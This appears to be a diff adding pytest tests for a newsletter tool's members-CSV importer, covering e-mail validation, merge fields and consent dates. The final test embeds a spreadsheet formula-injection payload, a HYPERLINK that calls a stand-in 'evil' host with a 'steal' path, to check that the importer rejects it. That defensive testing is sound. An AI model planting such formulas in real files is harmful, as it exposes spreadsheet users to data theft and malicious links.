@@ -1,0 +1,85 @@
+"""Reading a members CSV row by row: addresses, the organisation's merge field, consent."""
+
+from pathlib import Path
+
+from support.audiences import audience, write_csv
+
+from bulletin.audiences.members_csv import Contact, ContactsFile, Invalid
+from bulletin.document.audiences import Audience, MergeField
+
+
+def rows(path: Path, reader: Audience) -> list[Contact | Invalid]:
+    return list(ContactsFile(path, reader).rows())
+
+
+def test_addresses_beyond_plain_ascii_are_read_and_broken_ones_refused(root: Path):
+    path = write_csv(
+        root / "members.csv",
+        [
+            [email, "", "", "", "", "yes"]
+            for email in ("jo@example.org", "zoë@exämple.org", "not-an-email", "a@@b.org", "")
+        ],
+    )
+    found = rows(path, audience(root))
+    assert [(r.line, r.email if isinstance(r, Contact) else r.message) for r in found] == [
+        (2, "jo@example.org"),
+        (3, "zoë@exämple.org"),
+        (4, "not a valid e-mail address ('not-an-email')"),
+        (5, "not a valid e-mail address ('a@@b.org')"),
+        (6, "no e-mail address"),
+    ]
+
+
+def test_the_organisation_goes_to_the_audiences_own_field_for_it(root: Path):
+    """Named by its tag ORG, or by a name such as Company: whichever the audience has."""
+    path = write_csv(root / "members.csv", [["jo@example.org", "Jo", "", "Acme", "", "yes"]])
+    partners = audience(root)
+    by_name = partners.model_copy(
+        update={"merge_fields": [MergeField(tag="EMPLOYER", name="Company")]}
+    )
+    by_tag_only = partners.model_copy(
+        update={"merge_fields": [MergeField(tag="ORG", name="Partner body")]}
+    )
+    (by_tag,) = rows(path, by_tag_only)
+    (named,) = rows(path, by_name)
+    assert isinstance(by_tag, Contact) and isinstance(named, Contact)
+    assert by_tag.merge_fields == {"FNAME": "Jo", "ORG": "Acme"}
+    assert named.merge_fields == {"FNAME": "Jo", "EMPLOYER": "Acme"}
+
+
+def test_a_file_without_name_columns_sends_no_names(root: Path):
+    path = write_csv(root / "members.csv", [["jo@example.org", "yes"]], header=["Email", "Consent"])
+    (contact,) = rows(path, audience(root))
+    assert isinstance(contact, Contact) and contact.merge_fields == {}
+
+
+def test_consent_given_as_a_date_in_any_of_the_usual_forms(root: Path):
+    dates = ["2020-11-02", "02/11/2020", "02/11/20", "02.11.2020", "soon"]
+    path = write_csv(
+        root / "members.csv",
+        [[f"p{i}@example.org", date] for i, date in enumerate(dates)],
+        header=["Email", "Consent"],
+    )
+    found = rows(path, audience(root))
+    assert [r.consent if isinstance(r, Contact) else r.message for r in found] == [
+        True,
+        True,
+        True,
+        True,
+        "consent: write yes, no or the date it was given ('soon')",
+    ]
+
+
+def test_a_formula_is_named_by_its_first_thirty_characters(root: Path):
+    formula = '=HYPERLINK("https://evil.example.com/steal?x=1","Click")'
+    path = write_csv(
+        root / "members.csv",
+        [["jo@example.org", formula, "yes"]],
+        header=["Email", "First name", "Consent"],
+    )
+    (refused,) = rows(path, audience(root))
+    assert isinstance(refused, Invalid)
+    assert refused.message == (
+        "first name: starts with '=', which a spreadsheet runs as a formula "
+        f"({formula[:30]!r}): not imported; remove the '='"
+    )
